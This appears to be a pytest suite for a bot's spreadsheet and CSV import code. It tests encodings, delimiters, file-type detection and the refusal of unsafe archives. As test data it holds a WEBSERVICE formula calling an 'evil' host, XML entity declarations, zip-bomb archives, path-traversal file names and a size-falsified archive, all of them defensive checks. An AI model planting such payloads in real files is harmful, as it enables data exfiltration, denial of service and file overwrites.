"""What a file is and what its rows say, whatever wrote it; what is dangerous is refused before it is opened."""

import contextlib
import io
import random
import struct
import zipfile
import zlib
from datetime import date, datetime, time

import pytest
import xlsxwriter

from bot.errors import Refusal
from bot.imports.files import MOST_BYTES, open_file
from bot.imports.refusals import BadLine, UnknownEncoding, UnsafeArchive, WrongFile

TABLE = "货号,名称\nA-1,青瓷壶\nA-2,乌龙茶\n"
NAIVE = datetime(2026, 1, 2, 3, 4)  # noqa: DTZ001 - a sheet's times have no zone
ROWS = [["货号", "名称"], ["A-1", "青瓷壶"], ["A-2", "乌龙茶"]]


def rows(content: bytes, name: str = "file.csv") -> list[list[str]]:
    return [cells for _, cells in open_file(name, content).rows()]


def lines(content: str) -> list[tuple[int, list[str]]]:
    return list(open_file("file.csv", content.encode()).rows())


def archive(parts: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", how) as packed:
        for name, data in parts.items():
            packed.writestr(name, data)
    return content.getvalue()


def sheet(*cells: object, **formats: str) -> bytes:
    """One row of an XLSX."""
    content = io.BytesIO()
    book = xlsxwriter.Workbook(content, {"strings_to_formulas": False})
    page = book.add_worksheet()
    for column, cell in enumerate(cells):
        looks = {date: "yyyy-mm-dd", time: "hh:mm", datetime: "yyyy-mm-dd hh:mm"}.get(type(cell))
        page.write(0, column, cell, book.add_format({"num_format": looks}) if looks else None)
    book.close()
    return content.getvalue()


def workbook(sheet_xml: bytes) -> bytes:
    """A real workbook whose sheet is replaced."""
    with zipfile.ZipFile(io.BytesIO(sheet("x"))) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    return archive(parts | {"xl/worksheets/sheet1.xml": sheet_xml})


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "gb18030", "gbk", "gb2312"]
)
def test_a_table_reads_the_same_in_every_usual_encoding(encoding: str) -> None:
    assert rows(TABLE.encode(encoding)) == ROWS


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_a_table_reads_the_same_whatever_stands_between(delimiter: str, end: str) -> None:
    assert rows(TABLE.replace(",", delimiter).replace("\n", end).encode()) == ROWS


def test_excels_own_line_about_the_delimiter_is_no_row() -> None:
    assert lines("sep=;\r\nsku;name\r\nA,1;B\r\n") == [(2, ["sku", "name"]), (3, ["A,1", "B"])]


def test_lines_are_counted_as_people_see_them() -> None:
    assert [line for line, _ in lines('sku,name\nA,"two\nlines"\n\nB,one\n')] == [1, 2, 4, 5]


def test_western_text_in_an_old_encoding_is_refused_and_never_guessed_to_be_chinese() -> None:
    with pytest.raises(UnknownEncoding):
        rows("sku,name\nA,Crème brûlée à la vanille\nB,Café noir\n".encode("cp1252"))


@pytest.mark.parametrize("text", ['sku,name\nA,"open\nB,x\n', 'sku,name\nA,"a"b\n', 'sku\n"' + "x" * 200_000])
def test_a_quote_that_stays_open_is_an_error_of_its_line(text: str) -> None:
    with pytest.raises(BadLine) as bad:
        lines(text)
    assert bad.value.line == 2


def test_cells_of_a_sheet_are_what_people_see() -> None:
    shown = rows(sheet(18.0, 18.5, 4006381333931, True, "=1+1", date(2026, 12, 24), time(10, 5), NAIVE))
    assert shown == [["18", "18.5", "4006381333931", "yes", "=1+1", "2026-12-24", "10:05", "2026-01-02 03:04"]]


def test_a_formula_is_the_value_that_was_stored_with_it() -> None:
    xml = (
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="2"><c r="A2"><f>WEBSERVICE("http://evil")</f><v>7</v></c></row></sheetData></worksheet>'
    )
    assert rows(workbook(xml)) == [[""], ["7"]]


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (b"%PDF-1.7", "pdf"),
        (b"\x89PNG\r\n\x1a\n", "picture"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "xls"),
        (b"<html><table>", "html"),
        (b"\xef\xbb\xbf<?xml version='1.0'?>", "html"),
        (b"7z\xbc\xaf\x27\x1c", "archive"),
        (bytes(range(256)) * 20, "binary"),
        (archive({"word/document.xml": b"x"}), "docx"),
        (archive({"content.xml": b"x"}), "ods"),
        (archive({"xl/workbook.bin": b"x"}), "xls"),
    ],
)
def test_a_file_is_what_it_holds_and_not_what_it_is_called(content: bytes, found: str) -> None:
    with pytest.raises(WrongFile) as wrong:
        rows(content)
    assert wrong.value.facts == {"found": found}


@pytest.mark.parametrize("content", [b"", b"\xef\xbb\xbf", b"\n\n  \r\n", b"\0" * 100])
def test_an_empty_file_is_said_to_be_empty(content: bytes) -> None:
    with pytest.raises(Refusal, match="file_empty"):
        open_file("a.csv", content)


def test_more_than_twenty_megabytes_are_refused() -> None:
    with pytest.raises(Refusal, match="file_too_big"):
        open_file("a.csv", b"x" * (MOST_BYTES + 1))


XML = b'<worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c></row>%b</sheetData></worksheet>'


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (workbook(b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + XML % b""), "entities"),
        (workbook(('<!DOCTYPE x [<!ENTITY a "aaaa">]>').encode("utf-16") + XML), "entities"),
        (workbook(XML % b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "cells"),
        (workbook(XML % (b"<row>" + b"<c/>" * 8_000_001 + b"</row>")), "ratio"),
        (archive({"xl/workbook.xml": b"x", "xl/worksheets/sheet1.xml": b" " * 30_000_000}), "ratio"),
        (archive({"a.csv": b"x" * 30_000_000}), "ratio"),
        (archive({"../a.csv": b"sku"}), "paths"),
        (archive({"/etc/a.csv": b"sku"}), "paths"),
        (archive({"c:\\a.csv": b"sku"}), "paths"),
        (archive({"a.csv": b"sku", "x/a.png": b"1", "y/A.PNG": b"2"}), "names"),
        (b"PK\x03\x04 and nothing more", "broken"),
        (archive({"xl/workbook.xml": b"not a workbook"}), "broken"),
    ],
)
def test_a_dangerous_archive_is_refused(content: bytes, why: str) -> None:
    with pytest.raises(UnsafeArchive) as unsafe:
        rows(content)
    assert unsafe.value.facts == {"why": why}


@pytest.mark.parametrize("method", [zipfile.ZIP_DEFLATED, zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
def test_an_archive_damaged_inside_is_refused_however_it_is_packed(method: int) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", method) as written:
        written.writestr("a.csv", random.Random(7).randbytes(3000))
    content = bytearray(packed.getvalue())
    content[200:2000] = bytes(1800)
    with pytest.raises(UnsafeArchive) as unsafe:
        rows(bytes(content))
    assert unsafe.value.facts == {"why": "broken"}


def test_an_archive_that_says_less_than_it_holds_is_refused() -> None:
    """Its directory says 10 bytes with the sum of those; behind them come 50 million."""
    data = b"sku\n" + b"\n" * 50_000_000
    honest = archive({"xl/workbook.xml": b"x", "xl/a.xml": data})
    crc, size = zlib.crc32(data), len(data)
    lying = honest.replace(struct.pack("<L", size), struct.pack("<L", 10))
    lying = lying.replace(struct.pack("<L", crc), struct.pack("<L", zlib.crc32(data[:10])))
    with pytest.raises(UnsafeArchive) as unsafe:
        rows(lying)
    assert unsafe.value.facts["why"] in ("size", "broken")


def test_a_locked_archive_is_said_to_be_locked() -> None:
    content = bytearray(archive({"a.csv": b"sku"}))
    content[content.index(b"PK\x01\x02") + 8] |= 1
    with pytest.raises(UnsafeArchive) as unsafe:
        rows(bytes(content))
    assert unsafe.value.facts == {"why": "locked"}


def test_what_computers_add_to_archives_is_overlooked() -> None:
    parts = {"shop/list.csv": TABLE.encode(), "__MACOSX/shop/._list.csv": b"x", "shop/.DS_Store": b"x"}
    assert rows(archive(parts)) == ROWS


@pytest.mark.parametrize(
    "parts", [{"a.png": b"1"}, {"a.csv": b"sku", "b.xlsx": b"x"}, {"a.xlsx": archive({"a.csv": b""})}]
)
def test_an_archive_holds_exactly_one_table(parts: dict[str, bytes]) -> None:
    with pytest.raises(Refusal, match="file_no_table"):
        open_file("a.zip", archive(parts))


@pytest.mark.parametrize("cut", range(40, 6000, 397))
def test_a_damaged_sheet_is_refused_and_never_breaks_us(cut: int) -> None:
    whole = sheet("sku", "name", 7)
    damaged = whole[:cut] + bytes((byte + 1) % 256 for byte in whole[cut : cut + 9]) + whole[cut + 9 :]
    with contextlib.suppress(Refusal, BadLine):
        rows(damaged)
